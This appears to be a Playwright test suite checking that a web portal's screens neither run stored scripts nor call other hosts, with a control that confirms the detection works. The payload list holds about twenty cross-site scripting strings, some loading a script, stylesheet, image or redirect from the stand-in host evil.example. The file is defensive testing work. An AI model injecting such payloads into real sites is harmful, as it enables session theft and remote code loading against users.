"""T15: scripts in every stored text, on every screen of publishers and operators: none runs or calls out."""

from collections.abc import AsyncIterator
from itertools import count

import pytest
from playwright.async_api import Browser, Request, expect

from tests.support.browser import Visit, open_visit
from tests.support.hostile import full_publisher, lengths
from tests.support.hostile.full_publisher import Possessions, possessions
from tests.support.journey import Headings
from tests.support.portal import Portal, unique
from tests.web.journeys.screens import OPERATOR, of_publisher

PAYLOADS = [
    "<script>ran()</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=ran()>",
    '" onmouseover="ran()" autofocus onfocus="ran()',
    "<svg/onload=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<a href='javascript:ran()'>x</a>",
    "javascript:ran()//",
    "[x](javascript:ran())",
    "![x](https://evil.example/x.png)",
    "<details open ontoggle=ran()>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "${ran()}{{ran()}}<%= ran() %>",
    "</title></textarea></style><img src=x onerror=ran()>",
    "<math><mtext><img src onerror=ran()>",
    "\u202e<input onfocus=ran() autofocus>",
    "data:text/html,<script>ran()</script>",
    "<object data=javascript:ran()>",
]
PLAIN = {"w", "Path", "contact", "Target", "path", "receiver", "in", "parameter", "value"}
"""Parts of addresses and names that may hold letters alone."""


@pytest.fixture(scope="module")
async def own(site: Portal) -> AsyncIterator[Possessions]:
    numbers, plain = count(), lengths.word

    def hostile(beginning: str, length: int) -> str:
        if beginning in PLAIN:
            return plain(beginning, length)
        payload = PAYLOADS[next(numbers) % len(PAYLOADS)]
        return f"{payload}{unique(beginning)}"[:length]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(lengths, "word", hostile)
        patch.setattr(full_publisher, "word", hostile)
        yield await possessions(site)


async def visit_all(
    portal: Portal, browser: Browser, screens: Headings, token: str
) -> tuple[list[str], int]:
    """What ran, was blocked or left for another origin, each with its path; and how many screens show a script."""
    found: list[str] = []
    shown = 0
    async with open_visit(browser, portal.url, token=token) as visit:
        await watch(visit, portal.url, found)
        for path, heading in screens.items():
            before = len(found)
            visit.faults.clear()
            await visit.page.goto(path)
            await expect(visit.page.get_by_role("heading", level=1, name=heading)).to_be_visible()
            await visit.settle()
            shown += "ran()" in await visit.page.inner_text("body")
            found += [
                f for f in visit.faults if "Content Security Policy" in f or f.startswith("error")
            ]
            found[before:] = [f"{path}: {each}" for each in found[before:]]
    return found, shown


async def watch(visit: Visit, origin: str, notes: list[str]) -> None:
    """Record calls of `ran`, violations of the content policy, and requests to other hosts."""
    page = visit.page
    await page.expose_function("ran", lambda: notes.append("a script ran"))
    await page.expose_function("blocked", lambda what: notes.append(f"blocked: {what}"))
    await page.add_init_script(
        "addEventListener('securitypolicyviolation', (event) => blocked(event.violatedDirective))"
    )

    def note(request: Request) -> None:
        if not request.url.startswith((origin, "data:", "blob:", "about:")):
            notes.append(f"asked {request.url}")

    page.on("request", note)


async def test_no_stored_script_runs_for_a_publisher(
    site: Portal, browser: Browser, own: Possessions
) -> None:
    found, shown = await visit_all(site, browser, of_publisher(own), own.token)
    assert found == []
    assert shown > 20, "as text, they are there"


async def test_no_stored_script_runs_for_an_operator(
    site: Portal, browser: Browser, own: Possessions
) -> None:
    screens = {
        **OPERATOR,
        f"/network/orders?look={own.words.oid}": "Orders",
        f"/network/cases?look={own.case_id}": "Cases",
        f"/network/payments?look={own.payment_id}": "Payments",
        f"/network/settlements?look={own.settlement_id}": "Settlements",
    }
    found, shown = await visit_all(site, browser, screens, (await site.operator()).token)
    assert found == []
    assert shown > 3


async def test_detection_finds_a_stored_script_that_runs(site: Portal, browser: Browser) -> None:
    """The control: set as HTML on a page of the portal one is blocked, and on a page without its policy it runs."""
    found: list[str] = []
    async with open_visit(browser, site.url) as visit:
        await watch(visit, site.url, found)
        await visit.page.goto("/auth/login")
        await visit.settle()
        put = "(html) => document.body.insertAdjacentHTML('beforeend', html)"
        await visit.page.evaluate(put, "<img src=x onerror=ran()>")
        await visit.settle()
        assert [each for each in found if each.startswith("blocked: script-src")]
        assert "a script ran" not in found
        await visit.page.goto("about:blank")
        await visit.page.evaluate(put, "<img src=x onerror=ran()>")
        await visit.settle()
        assert "a script ran" in found
